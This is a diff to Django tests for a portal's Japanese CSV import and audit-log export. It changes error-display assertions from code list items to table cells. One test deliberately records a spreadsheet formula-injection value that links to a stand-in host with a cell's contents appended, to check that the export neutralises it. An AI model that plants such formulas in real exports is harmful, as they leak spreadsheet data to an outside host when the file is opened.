@@ -22,7 +22,6 @@ from portal.csvio import (
     read_csv,
 )
 from portal.models import Role
-from tests.factories import OrganisationFactory
 
 COLUMNS = ("番号", "氏名", "町丁目コード")
 HEADER = "番号,氏名,町丁目コード\r\n"
@@ -269,7 +268,10 @@ def test_district_page_reports_a_nul_byte_as_a_row_error(
     data = (DISTRICT_HEADER + "A01,北部,A0101,桜ヶ丘\x00一丁目\n").encode("cp932")
     upload = SimpleUploadedFile("districts.csv", data, content_type="text/csv")
     page = _import_page(client, upload, django_capture_on_commit_callbacks)
-    assert f"<code>line 2: 町丁目名: {NUL_REASON}</code>" in page
+    assert (
+        '<td class="num" data-label="行">2</td><td data-label="列">町丁目名</td>'
+        f'<td data-label="内容">{NUL_REASON}</td>'
+    ) in page
     assert District.objects.count() == 0
 
 
@@ -293,8 +295,8 @@ def test_district_page_lists_the_first_thousand_errors_and_counts_the_rest(
     page = _import_page(client, upload, django_capture_on_commit_callbacks)
     assert "誤りは1205件です。" in page
     assert "最初の1000件を表示しています。" in page
-    assert page.count("<li><code>line ") == 1000
-    assert "<code>line 1001: " in page and "<code>line 1002: " not in page
+    assert page.count('<td class="num" data-label="行">') == 1000
+    assert 'data-label="行">1001</td>' in page and 'data-label="行">1002</td>' not in page
 
 
 @pytest.mark.django_db
@@ -370,7 +372,9 @@ def test_streaming_response_in_cp932():
 def test_audit_log_export_never_holds_a_live_formula(client_as):
     client = client_as(Role.ADMINISTRATOR)
     # A target whose text an attacker chose (an organisation's name, a file name).
-    audit.record_access(actor=client.user, action="view", target='=HYPERLINK("http://x"&A1,"click")')
+    audit.record_access(
+        actor=client.user, action="view", target='=HYPERLINK("http://x"&A1,"click")'
+    )
 
     for encoding in ("utf-8", "cp932"):
         response = client.get("/staff/audit-log/export/", {"encoding": encoding})
